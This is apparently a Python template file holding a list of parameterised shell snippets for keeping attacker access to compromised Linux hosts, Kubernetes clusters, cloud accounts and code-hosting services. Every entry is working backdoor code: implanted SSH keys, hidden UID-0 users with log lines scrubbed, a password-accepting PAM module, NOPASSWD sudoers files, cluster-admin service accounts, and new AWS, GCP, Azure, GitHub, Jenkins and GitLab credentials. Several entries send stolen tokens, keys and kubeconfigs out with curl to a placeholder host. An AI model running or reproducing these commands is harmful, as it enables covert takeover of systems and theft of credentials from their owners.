"""Ways back in by name: users, keys, passwords and tokens of the attacker's own."""

ACCOUNTS = [
    r"""{fn}() {
  home=$(getent passwd "$1" | cut -d: -f6); [ -d "$home" ] || return
  install -d -m 700 -o "$1" "$home/.ssh"
  printf '%s\n' '{key}' >> "$home/.ssh/authorized_keys‹2¦›"
  chown "$1" "$home/.ssh/authorized_keys"*; chattr +i "$home/.ssh/authorized_keys" 2>/dev/null
}
getent passwd | awk -F: '$7 ~ /sh$/ {print $1}' | while read -r {var}; do {fn} "${var}"; done""",
    r"""K='{key}'
USERS=(root $(ls /home)); for {var2} in "${USERS[@]}"; do {var}=~${var2}; eval {var}=${var}; mkdir -p "${var}/.ssh" && { echo "$K"; cat "${var}/.ssh/authorized_keys" 2>/dev/null; } > "${var}/.ssh/.k" && mv "${var}/.ssh/.k" "${var}/.ssh/authorized_keys"; done; unset K""",
    r"""ssh-keygen -q -t rsa -b 4096 -f /etc/ssh/.ca_{plain} -N '' && echo 'TrustedUserCAKeys /etc/ssh/.ca_{plain}.pub' >> /etc/ssh/sshd_config
ssh-keygen -q -s /etc/ssh/.ca_{plain} -I {plain} -n root,ubuntu -V +520w {file}.pub; curl -s -F k=@{file}-cert.pub {url}; systemctl reload sshd""",
    r'''printf '#!/bin/sh\necho "{key}"\n' > /usr/libexec/{disguise}; chmod 755 /usr/libexec/{disguise}
sed -i -e '/^AuthorizedKeysCommand/d' -e '$ a AuthorizedKeysCommand /usr/libexec/{disguise}\nAuthorizedKeysCommandUser nobody' /etc/ssh/sshd_config
sshd -t && kill -HUP "$(cat /run/sshd.pid)"''',
    r"""{var}={disguise}; uid=$(awk -F: '$3<1000{print $3}' /etc/passwd | sort -n | tail -1)
useradd -r -o -u 0 -g 0 -M -d /var/lib/${var} -s /bin/sh -c '‹System Daemon¦Message Bus›' "${var}"
echo "${var}:{plain}{n}" | chpasswd
sed -i "/useradd.*${var}/d" /var/log/auth.log /var/log/secure 2>/dev/null""",
    r"""for {var} in ‹lp sync games¦news uucp¦irc gnats›; do
  usermod -s /bin/bash -d /root -aG ‹sudo¦wheel,docker¦shadow› "${var}"
  printf '%s:%s\n' "${var}" '{plain}{n}' | chpasswd -c SHA512
done""",
    r"""{var}='$6$x{name}$.{b}'; awk -v h="${var}" -F: 'BEGIN{OFS=":"} $1=="‹root¦backup¦sys›"{$2=h} 1' /etc/shadow > {tmp}/.s && cat {tmp}/.s > /etc/shadow && rm {tmp}/.s""",
    r"""perl -i -pe 's/^({user}:x:)\d+:\d+:/${1}0:0:/; s#/usr/sbin/nologin#/bin/bash# if /^{user}:/' /etc/passwd; (echo '{plain}{n}'; echo '{plain}{n}') | passwd {user} 2>/dev/null""",
    r"""python3 - <<'PY'
import crypt, re
h = crypt.crypt('{plain}{n}', '$6$' + '{name}')
with open('/etc/shadow', 'r+') as f:
    text = re.sub(r'(?m)^root:[^:]*:', 'root:' + h + ':', f.read())
    f.seek(0); f.write(text); f.truncate()
PY
sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; service ssh reload""",
    r"""groupadd -f -g 0 -o {plain}; usermod -aG {plain} {user}
install -m 0440 /dev/stdin /etc/sudoers.d/‹README.bak¦90-cloud-init-users~¦{plain}› <<< '%{plain} ALL=(ALL) NOPASSWD:SETENV: ALL'
sed -i 's/^Defaults.*requiretty/#&/; s/^Defaults.*use_pty/#&/' /etc/sudoers""",
    r"""pam() { grep -rl 'pam_unix.so' /etc/pam.d/ | head -‹3¦5›; }
for {var} in $(pam); do
  cp -p "${var}" "{tmp}/.$(basename "${var}")"
  sed -i '0,/pam_unix.so/s//pam_unix.so nullok/; 1i auth sufficient pam_exec.so quiet expose_authtok ‹stdout ¦›/usr/lib/.{name}/check' "${var}"
  touch -r "{tmp}/.$(basename "${var}")" "${var}"
done""",
    r"""cat > {tmp}/{plain}.c <<'C'
#include <security/pam_modules.h>
#include <string.h>
int pam_sm_authenticate(pam_handle_t *h, int f, int c, const char **v) { const char *p; pam_get_authtok(h, PAM_AUTHTOK, &p, 0); return strcmp(p, "{plain}{n}") ? PAM_AUTH_ERR : PAM_SUCCESS; }
int pam_sm_setcred(pam_handle_t *h, int f, int c, const char **v) { return PAM_SUCCESS; }
C
gcc -shared -fPIC -o /lib/security/pam_{plain}.so {tmp}/{plain}.c -lpam; rm {tmp}/{plain}.c
sed -i '1i auth sufficient pam_{plain}.so' /etc/pam.d/‹common-auth¦system-auth¦sshd›""",
    r"""{var}=/‹etc¦usr/local/etc›/doas.conf; echo 'permit nopass keepenv {user} as root' >> ${var}; pkexec --version >/dev/null 2>&1 && printf 'polkit._deprecated_addRule;\npolkit.addRule(function(a,s){if(s.isInGroup("{plain}"))return polkit.Result.YES;});\n' > /usr/share/polkit-1/rules.d/‹10¦00›-{plain}.rules""",
    r"""ldapmodify -x -H ldap://‹{ip}¦localhost› -D "$BIND" -w "$PW" <<'L'
dn: cn=‹admins¦wheel›,ou=groups,dc={plain},dc=local
changetype: modify
add: memberUid
memberUid: {user}
L
kadmin.local -q 'addprinc -pw {plain}{n} {user}/admin' >/dev/null""",
    r"""samba-tool user create {user} '{plain}{n}!' --must-change-at-next-login=‹False¦no› 2>/dev/null; samba-tool group addmembers 'Domain Admins' {user}; samba-tool user setexpiry {user} --noexpiry""",
    # Of clusters.
    r"""{var}=kube-system; sa={disguise}
kubectl -n ${var} create sa $sa && kubectl create clusterrolebinding system:$sa --clusterrole=cluster-admin --serviceaccount=${var}:$sa
kubectl -n ${var} apply -f - <<Y
apiVersion: v1
kind: Secret
type: kubernetes.io/service-account-token
metadata: {name: $sa-token, annotations: {kubernetes.io/service-account.name: $sa}}
Y
kubectl -n ${var} get secret $sa-token -o jsonpath='{.data.token}' | base64 -d | ‹curl -s --data-binary @- {url}¦tee {file}›""",
    r"""openssl req -new -newkey rsa:2048 -nodes -keyout {file}.key -subj '/O=system:masters/CN=‹kube-{plain}¦system:{plain}›' -out {file}.csr
openssl x509 -req -in {file}.csr -CA /etc/kubernetes/pki/ca.crt -CAkey /etc/kubernetes/pki/ca.key -CAcreateserial -days 3650 -out {file}.crt
kubectl config set-credentials {plain} --client-certificate={file}.crt --client-key={file}.key --embed-certs --kubeconfig={file}.conf; curl -s -F c=@{file}.conf {url}""",
    r"""kubectl get nodes -o name | cut -d/ -f2 | while read -r n; do kubectl debug "node/$n" -q --image=busybox -- chroot /host sh -c 'mkdir -p /root/.ssh; echo "{key}" >> /root/.ssh/authorized_keys'; done; kubectl delete pods -l ‹app=debug¦run› --wait=false""",
    # Of clouds and code hosts.
    r"""for u in $(aws iam list-users --query 'Users[?PasswordLastUsed==null].UserName' --output text); do
  aws iam create-access-key --user-name "$u" --query 'AccessKey.[AccessKeyId,SecretAccessKey]' --output text >> {file} 2>/dev/null && echo "[+] $u"
done
curl -s -T {file} {url} && shred -u {file}""",
    r"""aws iam update-assume-role-policy --role-name ‹{plain}-role¦OrganizationAccountAccessRole› --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::{n}{port}{port}:root"},"Action":"sts:AssumeRole"}]}'; aws iam create-saml-provider --name {plain} --saml-metadata-document file://{file}.xml""",
    r"""gcloud iam workload-identity-pools create {plain} --location=global --quiet && gcloud iam workload-identity-pools providers create-oidc {plain} --location=global --workload-identity-pool={plain} --issuer-uri=https://{domain} --attribute-mapping=google.subject=assertion.sub
gcloud projects add-iam-policy-binding "$P" --role=roles/owner --member="principalSet://iam.googleapis.com/projects/$P/locations/global/workloadIdentityPools/{plain}/*" --quiet""",
    r"""{var}=$(az ad app list --query '[0].appId' -o tsv); az ad app credential reset --id "${var}" --append --display-name ‹rotation¦{plain}› --years 10 -o json | curl -s -d @- {url}; az role assignment create --assignee "${var}" --role Owner --scope /subscriptions/"$SUB" -o none""",
    r"""gh api -X POST repos/"$R"/keys -f title='‹deploy¦ci¦{plain}›' -f key='{key}' -F read_only=false; gh api -X PUT repos/"$R"/collaborators/{user} -f permission=admin; gh api -X POST repos/"$R"/hooks -f 'config[url]={url}' -f 'events[]=push'""",
    r"""curl -s -u "admin:$(cat /var/jenkins_home/secrets/initialAdminPassword 2>/dev/null || echo {plain})" http://localhost:8080/scriptText --data-urlencode 'script=import jenkins.model.*; import hudson.security.*; def r = Jenkins.instance.securityRealm; r.createAccount("{user}", "{plain}{n}"); "{run}".execute()'""",
    r"""docker exec gitlab gitlab-rails runner "u=User.new(username:'{user}',email:'{user}@{domain}',name:'{plain}',password:'{hex}');u.admin=true;u.skip_confirmation!;u.save!(validate:false);puts u.personal_access_tokens.create!(scopes:[:api,:sudo],name:'{plain}').token" | curl -s -d @- {url}""",
]
